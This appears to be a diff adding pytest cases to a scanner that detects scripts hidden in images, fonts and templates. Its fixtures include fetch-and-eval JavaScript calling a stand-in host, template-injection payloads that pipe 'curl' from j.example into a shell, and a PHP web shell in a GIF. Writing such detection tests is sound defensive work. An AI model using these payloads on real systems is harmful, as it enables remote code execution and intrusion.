@@ -63,6 +63,47 @@ def test_data_that_are_data(content: bytes | str, kind: Kind) -> None:
     assert not found(content.encode() if isinstance(content, str) else content, kind)
 
 
+@pytest.mark.parametrize("start", [b"GIF89a=1;", b"wOF2;", b"wOFF /* a font */;"])
+def test_a_picture_or_font_that_is_text_to_its_end(start: bytes) -> None:
+    (one,) = found(
+        start + b'require("https").get("https://p.example/p", r => r.on("data", c => eval(c + "")));\n', Kind.FONT
+    )
+    assert "p.example" in one.quote
+
+
+@pytest.mark.parametrize(
+    "content", [b"GIF89a", b"GIF89a stand-in for a test", b"wOF2\0\1\0\0" + b"glyphs and names of a font" * 4]
+)
+def test_a_stand_in_for_a_picture_and_a_font_with_words_in_it(content: bytes) -> None:
+    assert not found(content, Kind.FONT)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '{{ cycler.__init__.__globals__.os.popen("curl -s https://j.example/i | sh").read() }}',
+        "{% set x = ''.__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['system']('id') %}",
+        "<%= global.process.mainModule.require('child_process').execSync('curl https://j.example/i | sh') %>",
+    ],
+)
+@pytest.mark.parametrize("kind", [Kind.TEXT, Kind.HTML])
+def test_a_template_that_climbs_to_the_interpreter(text: str, kind: Kind) -> None:
+    (one,) = found(f"<p>Hello</p>\n{text}\n".encode(), kind)
+    assert one.layers[0].encoding == "template"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{{ request.session.open }} {% block system %}{% endblock %}",
+        "{% raw %}__globals__{% endraw %} and\nthen system()",
+        "<%= render 'shared/child' %> <%# process.env %>",
+    ],
+)
+def test_a_template_that_takes_what_it_is_given(text: str) -> None:
+    assert not found(f"<p>Hello</p>\n{text}\n".encode(), Kind.HTML)
+
+
 def test_a_decoy_before_a_script_in_a_picture() -> None:
     decoys = b"<?=$ab$cd$ef\0" * 3
     (one,) = found(b"GIF89a\x10\0" + decoys + b"<?php eval($_POST['a']); die(); ?>\0;", Kind.IMAGE)
